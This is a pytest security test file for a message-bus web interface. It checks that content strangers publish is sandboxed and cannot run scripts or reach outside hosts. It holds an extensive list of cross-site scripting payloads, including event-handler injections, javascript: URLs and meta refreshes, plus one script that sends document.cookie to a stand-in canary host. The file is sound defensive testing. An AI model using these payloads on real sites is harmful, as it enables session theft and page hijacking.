"""
What strangers publish, shown: nothing of it runs, leads elsewhere, or reaches anything.
"""

import re
import threading
import time

import pytest

from msgbus.client.blocking import publish, subscribe

from .browsers import Firefox
from .test_chat import CHAT, root
from .test_live import TEXTS, colors

# What does something on its own, if anything lets it.  Each says to the canary which one
# it was, or publishes, or gives the window another title.
SCRIPT = (
    "fetch('CANARY/fetch?'+document.cookie);"
    "fetch('/msgbus/pwned',{method:'POST',headers:{'Content-Type':'a/b'},body:'x'});"
    "try{localStorage.pwned=1}catch(e){};"
    "try{parent.document.title='pwned'}catch(e){};"
    "try{top.document.title='pwned'}catch(e){};"
    "try{top.location='CANARY/top'}catch(e){}"
)
JAVASCRIPT = "javascript:top.document.title=`pwned`"
HTML = {
    "a script": f"<script>{SCRIPT}</script>",
    "a module": "<script type=module>fetch('CANARY/module')</script>",
    "a script of the bus": "<script src=/msgbus/script></script>",
    "a script of theirs": "<script src=CANARY/script></script>",
    "an error": "<img src=x: onerror=\"fetch('CANARY/onerror')\">",
    "a load": "<body onload=\"fetch('CANARY/onload')\">",
    "svg": "<svg onload=\"fetch('CANARY/on-load')\"><script>fetch('CANARY/svg')</script>",
    "details": "<details open ontoggle=\"fetch('CANARY/ontoggle')\">x</details>",
    "focus": "<input autofocus onfocus=\"fetch('CANARY/onfocus')\">",
    "animation": "<svg><animate attributeName=x dur=1s onbegin=\"fetch('CANARY/begin')\">",
    "a picture": "<img src=CANARY/img srcset='CANARY/srcset 1x'>",
    "a video": "<video autoplay src=CANARY/video poster=CANARY/poster></video>",
    "an object": "<object data=CANARY/object></object><embed src=CANARY/embed>",
    "a frame": "<iframe src=CANARY/iframe></iframe>",
    "a frame of the bus": "<iframe src=/msgbus/lobby></iframe>",
    "a frame with a script": f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    "a frame of javascript": f"<iframe src={JAVASCRIPT}></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "refresh to javascript": f"<meta http-equiv=refresh content='0;url={JAVASCRIPT}'>",
    "a base": "<base href=CANARY/base/><img src=relative>",
    "a style sheet": "<link rel=stylesheet href=CANARY/link>",
    "an import": "<style>@import url(CANARY/import);</style>",
    "a background": "<p style='background:url(CANARY/background)'>x</p>",
    "a font": (
        "<style>@font-face{font-family:f;src:url(CANARY/font)}p{font-family:f}</style><p>x"
    ),
    "a look ahead": "".join(
        f"<link rel={rel} href=CANARY/{rel} as=image>"
        for rel in (
            "prefetch",
            "preload",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "icon",
            "manifest",
            "prerender",
        )
    ),
    "a shadow": (
        "<div><template shadowrootmode=open><link rel=prefetch href=CANARY/shadow>"
        "<img src=CANARY/shadow-img></template></div>"
    ),
    "rules": (
        '<script type=speculationrules>{"prefetch":[{"urls":["CANARY/rules"]}]}</script>'
    ),
    "a policy of its own": (
        '<meta http-equiv=Content-Security-Policy content="default-src *">'
        "<img src=CANARY/policy>"
    ),
    "an end": f"</iframe></li></ol><script>{SCRIPT}</script><img src=CANARY/end>",
}

# What does something once it is clicked on: each fills its frame.
FILLS = "style='position:fixed;inset:0;display:block;width:100%;height:100%'"
CLICKED = {
    "a link": f"<a {FILLS} href=CANARY/link-click ping=CANARY/ping>x</a>",
    "a link to the top": f"<a {FILLS} target=_top href=CANARY/link-top>x</a>",
    "a link to a window": f"<a {FILLS} target=_blank href=CANARY/link-blank>x</a>",
    "a link to javascript": f"<a {FILLS} href={JAVASCRIPT}>x</a>",
    "a download": f"<a {FILLS} download href=CANARY/link-download>x</a>",
    "a form": (
        "<form method=post enctype=text/plain action=/msgbus/pwned>"
        f"<button {FILLS}>x</button>"
    ),
    "a form of theirs": f"<form action=CANARY/form><button {FILLS}>x</button></form>",
    "mathematics": f"<math href=CANARY/math><mtext><p {FILLS}>x</p></mtext></math>",
    "a click": f"<button {FILLS} onclick=\"fetch('CANARY/onclick')\">x</button>",
}

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    " width='99' height='9' onload=\"fetch('CANARY/svg-load')\">"
    f"<script><![CDATA[{SCRIPT}]]></script>"
    "<image width='9' height='9' xlink:href='CANARY/svg-image' href='CANARY/svg-image'/>"
    "<style>@import url(CANARY/svg-style);</style>"
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml'"
    " src='CANARY/svg-iframe'/></foreignObject></svg>"
)

# Others that might be taken for a page.
TYPES = {
    "text/plain": HTML["a script"],
    "text/javascript": SCRIPT,
    "text/xml": f"<x xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></x>",
    "application/xhtml+xml": (
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></html>"
    ),
    "image/svg+xml": SVG,
    "IMAGE/SVG+XML; charset=utf-8": SVG,
    "image/png": HTML["a script"],
    "image/x+xml": SVG,
    "multipart/mixed; boundary=x": (
        f"--x\r\nContent-Type: text/html\r\n\r\n{HTML['a script']}"
    ),
    "application/pdf": HTML["a script"],
    "application/javascript": SCRIPT,
}

NAMES = (
    "<script>document.title='pwned'</script>",
    "\"><img src=x: onerror=document.title='pwned'>",
    "' onmouseover=document.title='pwned' x='",
    "javascript:document.title='pwned'",
    "\N{RIGHT-TO-LEFT OVERRIDE}evil\N{PARAGRAPH SEPARATOR}!",
    "__proto__",
    "${alert(1)}",
)


def say(bus, canary, channel, last):
    """
    Publish all of it there, and then this.
    """

    def one(body, content_type="text/html; charset=utf-8", user="", name=channel):
        body = body.replace("CANARY", canary.origin)
        publish(bus.url + name, body.encode(), content_type, user=user)

    one(SCRIPT, "text/javascript", name="script")
    for body in HTML.values():
        one(body)
    for content_type, body in TYPES.items():
        one(body, content_type)
    for name in NAMES:
        one("x", "text/plain", user=name.replace(":", ";"))
        if channel.endswith("/"):
            one("x", "text/plain", name=channel + name.replace("/", "|"))
    one(last, "text/plain")


class Watch:
    """
    Sees what is published to the channel that nobody should publish to.
    """

    def __init__(self, bus):
        self._url = bus.url + "pwned"
        self._messages = []
        # Nobody waits for it where a test has failed.
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()
        bus.wait_for("subscribes to 'pwned'")

    def end(self):
        """
        What has been published there.
        """
        publish(self._url, b"", "a/last")
        self._thread.join(30)
        assert not self._thread.is_alive(), self._messages
        return self._messages[:-1]

    def _listen(self):
        for message in subscribe(self._url):
            self._messages.append(message)
            if message.content_type == "a/last":
                return


def assert_harmless(page, address, title, canary):
    """
    Nothing has happened.
    """
    assert canary.heard == []
    assert page.run("return location.href") == address
    assert page.run("return document.title").endswith(title)
    assert page.run("return [document.cookie, localStorage.pwned]") == ["secret=1", None]
    # And nothing could: no frame has an origin, so no cookie, no storage, and no parent.
    frames = "[...document.querySelectorAll('iframe')]"
    assert page.run(f"return {frames}.every((one) => one.contentDocument === null)")
    assert page.run(f"return {frames}.every((one) => one.getAttribute('sandbox') === '')")


def wait_for(page, last):
    """
    Wait until this is shown, the last of it.
    """
    page.wait(f"return {TEXTS}.at(-1) === args[0]", last)
    # For what waits for a turn of its own, as a refresh does.
    time.sleep(2)


def click_all(page, bus, canary, channel):
    """
    Publish what wants a click, and click on it.
    """
    frames = "document.querySelectorAll('iframe').length"
    for body in CLICKED.values():
        before = page.run(f"return {frames}")
        html = body.replace("CANARY", canary.origin)
        publish(bus.url + channel, html.encode(), "text/html")
        page.wait(f"return {frames} > args[0]", before)
        time.sleep(0.3)
        x, y = page.run(
            """
            const frame = [...document.querySelectorAll("iframe")].at(-1);
            frame.scrollIntoView({ block: "center" });
            const { x, y, width, height } = frame.getBoundingClientRect();
            return [x + width / 2, y + height / 2];
            """
        )
        page.click_at(int(x), int(y))
    time.sleep(1)


@pytest.mark.parametrize(
    ("path", "channel", "title"),
    [
        ("msgbus/foo?last=500", "foo", "foo · msgbus"),
        ("msgbus/a/?last=500", "a/", "a/ · msgbus"),
        ("", "lobby", "lobby · chat"),
    ],
    ids=["channel", "folder", "chat"],
)
def test_shown(start, window, canary, path, channel, title):
    """
    On the page of a channel and of a folder, and in the chat, whether it was there before
    or comes, and whatever one clicks on.
    """
    bus = start("-v", "--docroot", str(CHAT), "--history", "1000")
    watch = Watch(bus)
    page = window()
    address = root(bus) + path
    say(bus, canary, channel, "there before")
    page.open(address)
    page.run("document.cookie = 'secret=1; path=/'")
    wait_for(page, "there before")
    assert_harmless(page, address, title, canary)
    say(bus, canary, channel, "come meanwhile")
    wait_for(page, "come meanwhile")
    click_all(page, bus, canary, channel)
    assert_harmless(page, address, title, canary)
    assert watch.end() == []


def test_top_level(start, browser, window, canary, tmp_path):
    """
    The stream itself, opened as a page: where a browser shows it, nothing of it runs.
    """
    bus = start("-v", "--history", "1000")
    watch = Watch(bus)
    page = window()
    page.open(bus.url)
    page.run("document.cookie = 'secret=1; path=/'")
    say(bus, canary, "foo", "the last")
    address = bus.url + "foo?format=multipart&since=all&type=text/html,image/svg*"
    if isinstance(browser, Firefox):
        # The next part of the stream ends the loading of the one before, which its driver
        # may take for a failure.
        page.run("location.href = args[0]", address)
        bus.wait_for("subscribes to 'foo'")
        time.sleep(2)
        # It is alive, and shows what comes.
        publish(bus.url + "foo", b"<body bgcolor=#01ca67>", "text/html")
        shot = tmp_path / "shot.png"
        deadline = time.monotonic() + 30
        while colors(page, shot).get((1, 202, 103), 0) < 100_000:
            assert time.monotonic() < deadline, page.run("return document.body.outerHTML")
        assert page.run("return location.href") == address
    else:
        # Such a page never ends, so its driver would wait for it; and it shows nothing.
        page.run(
            """
            const link = document.createElement("a");
            Object.assign(link, { id: "go", href: args[0], textContent: "go" });
            Object.assign(link, { target: "_blank", rel: "noopener" });
            document.querySelector("body > header").prepend(link);
            """,
            address,
        )
        page.click("#go")
    bus.wait_for("subscribes to 'foo'")
    time.sleep(3)
    # A connection tells that somebody reads, and nothing else.
    assert [line for line in canary.heard if line != "connection"] == []
    assert watch.end() == []


def test_they_would(start, window, canary):
    """
    As a page of their own, most of them do what they want: the tests above can fail.
    """
    page = window()
    everything = "".join(HTML.values()) + SVG
    canary.pages = {
        f"/{number}": ("text/html", body.replace("CANARY", canary.origin))
        for number, body in enumerate([*HTML.values(), SVG])
    }
    for path in canary.pages:
        page.open(canary.origin + path)
        time.sleep(0.2)
    # In a frame, as it is shown, a click lands where it should.
    link = CLICKED["a link"].replace("CANARY", canary.origin)
    canary.pages["/click"] = ("text/html", f'<iframe srcdoc="{link}"></iframe>')
    page.open(canary.origin + "/click")
    time.sleep(0.5)
    page.click_at(100, 60)
    time.sleep(1)
    wanted = set(re.findall(r"CANARY/([a-z-]+)", everything))
    heard = {line.split("/")[1].split("?")[0] for line in canary.heard if "/" in line}
    assert "link-click" in heard
    print("not heard:", sorted(wanted - heard))
    assert len(wanted & heard) > len(wanted) / 2, wanted - heard
